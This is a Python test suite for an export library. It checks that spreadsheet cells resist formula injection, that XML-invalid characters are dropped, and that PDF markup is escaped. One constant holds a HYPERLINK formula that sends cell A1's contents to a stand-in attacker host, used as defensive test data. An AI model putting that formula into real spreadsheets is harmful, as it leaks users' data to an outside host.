"""Exports are inert: a stored text is never a spreadsheet formula, never PDF markup, and always valid XML."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import Paragraph, SimpleDocTemplate

from maklumat.lib.exports import EXCEL_MAX_TEXT, append_row, pdf_text, safe_cell, xml_safe
from maklumat.lib.tests.pdf import pdf_lines

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def reloaded(rows):
    book = Workbook()
    for row in rows:
        append_row(book.active, row)
    buffer = BytesIO()
    book.save(buffer)
    return load_workbook(BytesIO(buffer.getvalue())).active


def test_a_formula_is_written_as_text_with_the_quote_prefix():
    cell = reloaded([[FORMULA]])["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


def test_every_formula_leading_character_is_marked_and_kept_as_text():
    sheet = reloaded([["=1+1", "+62811", "-2", "@SUM(A1)", "\tx", "biasa"]])
    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[1]] == [
        ("=1+1", "s", True), ("+62811", "s", True), ("-2", "s", True), ("@SUM(A1)", "s", True),
        ("\tx", "s", True), ("biasa", "s", False)]


def test_numbers_dates_and_empty_cells_stay_what_they_are():
    sheet = reloaded([[3, 2.5, Decimal("1.25"), None, datetime(2025, 1, 2, 9, 30), date(2025, 1, 3), True]])
    assert [c.value for c in sheet[1]] == [3, 2.5, 1.25, None, datetime(2025, 1, 2, 9, 30),
                                           datetime(2025, 1, 3, 0, 0), True]
    assert [c.data_type for c in sheet[1]][:3] == ["n", "n", "n"]


def test_characters_xml_cannot_carry_are_dropped_so_the_workbook_opens():
    sheet = reloaded([["a\ufffeb\uffff\x00c\x1bd\ud800e"]])
    assert sheet["A1"].value == "abcde"


def test_text_longer_than_excel_allows_is_cut():
    assert len(safe_cell("x" * (EXCEL_MAX_TEXT + 10))) == EXCEL_MAX_TEXT


def test_an_empty_row_stays_empty_and_rows_keep_their_order():
    sheet = reloaded([["satu"], [], ["tiga"]])
    assert [row[0].value for row in sheet.iter_rows(max_col=1)] == ["satu", None, "tiga"]


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=60))
def test_any_text_becomes_a_string_cell_that_reads_back_clean(text):
    cell = reloaded([[text]])["A1"]
    expected = xml_safe(text)
    assert cell.data_type == "s" or (expected == "" and cell.value is None)
    assert (cell.value or "") == expected


def test_pdf_text_escapes_markup_and_drops_invalid_characters():
    assert pdf_text('Jl. <b>Merdeka</b> & "Co"\ufffe') == 'Jl. &lt;b&gt;Merdeka&lt;/b&gt; &amp; "Co"'
    assert pdf_text("satu\ndua", newlines=True) == "satu<br/>dua"
    assert pdf_text(None) == ""


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(codec="latin-1", exclude_categories=("Cc", "Cf", "Zs", "Zl", "Zp")), min_size=1,
               max_size=30))
def test_any_text_renders_literally_in_a_paragraph(text):
    buffer = BytesIO()
    SimpleDocTemplate(buffer).build([Paragraph(pdf_text(text), getSampleStyleSheet()["Normal"])])
    assert "".join(pdf_lines(buffer.getvalue())).replace(" ", "") == text.replace(" ", "")
